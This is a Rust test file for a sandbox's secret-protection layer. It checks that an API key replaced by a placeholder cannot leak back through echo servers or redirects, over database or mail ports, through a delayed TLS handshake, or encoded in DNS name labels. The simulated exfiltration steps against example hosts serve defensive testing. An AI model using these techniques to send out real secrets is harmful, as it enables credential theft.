//! Ways of a secret that are none of a request's own parts: back with the answer, beside the web.

use crate::claim;
use crate::network::{cell, network};
use crate::trial::{Grants, Trial};
use serde_json::{Value, json};
use skillcell_tests::{Cell, User, shared};

const NAME: &str = "SERVICE_API_KEY";
const RULES: &str = "{domains: [api.example.com], ports: [443, 8443, 5432, 2525]}, \
    {domains: [other.example.com], ports: [8443, 5432, 2525]}, {cidrs: [198.51.100.11/32], ports: [5432]}, \
    {domains: [\"*.wild.example.org\"], ports: [80]}";

/// With upper case, a character that URLs escape and one that JSON does.
fn secret(cell: &Cell) -> String {
    format!("Real-{}-5b1f/0c9E\\77a24d", cell.mark())
}

fn trial(cell: &Cell) -> Trial<'_> {
    let grants = Grants::egress(RULES).asking(&format!(
        "secrets: [{{env: {NAME}, hosts: [api.example.com], in: [header, query]}}]"
    ));
    Trial::new(cell, grants).flags(&["--env", &format!("{NAME}={}", secret(cell))])
}

/// The same variable, of which nobody says that it is a secret.
fn open_trial(cell: &Cell) -> Trial<'_> {
    let mut grants = Grants::egress(RULES).asking(&format!("env: [{NAME}]"));
    grants.operator.push_str(&format!("env: [{NAME}]\n"));
    Trial::new(cell, grants).flags(&["--env", &format!("{NAME}={}", secret(cell))])
}

/// Whether the skill got to know the value, in some spelling.
fn is_known(cell: &Cell, value: &Value) -> bool {
    let text = value.to_string();
    let middle = format!("{}-5b1f", cell.mark());
    text.contains(&middle) && (text.contains("0c9E") || text.contains("0c9e"))
}

fn seen(cell: &Cell, act: &str) {
    let steps = |trial: Trial<'_>, trust: &str| {
        let mut trial = trial.step("variable", "variable", json!({"variable": NAME}));
        if act.starts_with("httpx") {
            trial = trial.with_libraries();
        }
        let ask = |path: &str| {
            json!({"url": format!("https://api.example.com{path}"), "trust": trust,
                "headers": {"X-Key": format!("Bearer ${{{NAME}}}"), "Accept-Encoding": "gzip"}})
        };
        let key = format!("${{{NAME}}}");
        trial
            .step("body", act, ask(&format!("/echo?k={key}")))
            .step(
                "redirect",
                act,
                ask(&format!("/redirect?to=/echo%3Fk%3D{key}")),
            )
            .inside()
    };
    // Of a skill that has it, it's told again.
    assert!(is_known(cell, steps(open_trial(cell), "own").ok("body")));
    let report = steps(trial(cell), "default");
    report.nothing_denied();
    let placeholder = report.ok("variable").as_str().expect("text");
    for step in ["body", "redirect"] {
        let body = report.body(step);
        assert!(!is_known(cell, &json!(body)), "{step}: {body}");
        assert!(body.matches(placeholder).count() >= 2, "{step}: {body}");
    }
    assert!(!report.outcome().stdout.contains(&secret(cell)));
}

claim! {
    /// A server that repeats what it was told, or sends somebody on with it, doesn't tell the skill.
    fn an_answer_has_the_placeholder_where_it_had_the_secret(cell) {
        seen(cell, "urllib");
    }
}

#[test]
fn an_http_2_answer_has_the_placeholder_where_it_had_the_secret() {
    let _shared = shared();
    seen(&cell(User::Caller), "httpx2");
}

claim! {
    /// A database beside a service with a key: its protocol is let through, and looked at.
    fn other_protocols_pass_in_a_call_with_secrets_but_secrets_don_t(cell) {
        let tag = cell.mark();
        let talk = |host: &str, port: u16, send: &str| json!({
            "host": host, "port": port, "listen": port == 2525, "send": [send], "expect": tag,
        });
        let hosts = [("name", "other.example.com", 5432), ("address", "198.51.100.11", 5432), ("banner", "other.example.com", 2525)];
        let steps = |trial: Trial<'_>| {
            let mut trial = trial;
            for (name, host, port) in hosts {
                trial = trial
                    .step(name, "connect", talk(host, port, &format!("\u{1}{tag}\r\n")))
                    .step(&format!("{name} leak"), "connect", talk(host, port, &format!("\u{1}${{{NAME}}} {tag}\r\n")));
            }
            trial.inside()
        };
        let free = steps(open_trial(cell));
        let report = steps(trial(cell));
        for (name, host, _) in hosts {
            free.ok(name);
            free.ok(&format!("{name} leak"));
            report.ok(name);
            report.failed(&format!("{name} leak"));
            report.denied(host, "secret_leak");
        }
    }
}

claim! {
    /// A client that takes its time is not looked into any less.
    fn a_late_handshake_is_inspected_like_any_other(cell) {
        let code = "
import os, socket, ssl, time
def ask(host, trust):
    context = ssl.create_default_context(cafile=trust)
    with socket.create_connection((host, 8443), timeout=5) as plain:
        time.sleep(0.6)
        with context.wrap_socket(plain, server_hostname=host) as stream:
            key = os.environ[args['name']]
            stream.sendall(f'GET /hello?tag={args[\"tag\"]} HTTP/1.1\\r\\nHost: {host}:8443\\r\\nX-Key: {key}\\r\\n\\r\\n'.encode())
            answer = stream.recv(4096)
            if b' 200 ' not in answer.split(b'\\r\\n')[0]:
                raise ConnectionError(answer)
value = ask(args['host'], args['trust'])
";
        let step = |host: &str, tag: &str, trust: &str| json!({"code": code, "args": {
            "name": NAME, "host": host, "tag": tag, "trust": if trust.is_empty() { Value::Null } else { json!(trust) },
        }});
        let (free, held) = (format!("free-{}", cell.mark()), format!("held-{}", cell.mark()));
        let report = trial(cell)
            .step("bound", "python", step("api.example.com", &held, ""))
            .step("elsewhere", "python", step("other.example.com", &format!("else-{held}"), ""))
            .inside();
        report.ok("bound");
        report.failed("elsewhere");
        report.denied("other.example.com:8443", "secret_leak");
        let arrived: Vec<Value> = network().arrived(&held).into_iter().filter(|a| a["event"] == "request").collect();
        assert_eq!(arrived.len(), 1, "{arrived:#?}");
        assert!(is_known(cell, &arrived[0]), "the real value arrives\n{:#}", arrived[0]);
        open_trial(cell).step("elsewhere", "python", step("other.example.com", &free, "/skill/ca.pem")).inside().ok("elsewhere");
        assert!(network().arrived(&free).iter().any(|a| is_known(cell, a)), "the counter-proof arrives");
    }
}

claim! {
    /// Whole for who puts the labels together, and in the lower case that names have.
    fn a_secret_in_the_labels_of_a_name_is_stopped(cell) {
        let plain = format!("Real-{}-Key", cell.mark());
        let names = [
            ("whole", format!("{plain}.wild.example.org")),
            ("lower", format!("{}.wild.example.org", plain.to_lowercase())),
            ("labels", format!("{}.{}.wild.example.org", &plain[..7], &plain[7..])),
        ];
        let steps = |grants: Grants| {
            let mut trial = Trial::new(cell, grants).flags(&["--env", &format!("{NAME}={plain}")]);
            for (name, host) in &names {
                trial = trial.step(name, "resolve", json!({"host": host}));
            }
            trial
        };
        let outside = steps(Grants::none());
        outside.prove();
        let asked = || network().asked("wild.example.org").iter().filter(|l| l.to_lowercase().replace('.', "").contains(&plain.to_lowercase())).count();
        let before = asked();
        assert!(before >= names.len(), "the counter-proof is asked");
        let grants = Grants::egress(RULES).asking(&format!("secrets: [{{env: {NAME}, hosts: [api.example.com], in: [header]}}]"));
        let report = steps(grants).step("harmless", "resolve", json!({"host": "real.wild.example.org"})).inside();
        report.ok("harmless");
        for (name, _) in &names {
            report.failed(name);
        }
        report.denied("wild.example.org", "secret_leak");
        assert_eq!(asked(), before);
    }
}

claim! {
    /// A placeholder for nothing would pass for a value.
    fn an_empty_value_stays_empty(cell) {
        let grants = Grants::egress(RULES).asking(&format!("secrets: [{{env: {NAME}, hosts: [api.example.com], in: [header]}}]"));
        let report = Trial::new(cell, grants)
            .flags(&["--env", &format!("{NAME}=")])
            .step("variable", "variable", json!({"variable": NAME}))
            .inside();
        assert_eq!(report.ok("variable"), "");
    }
}
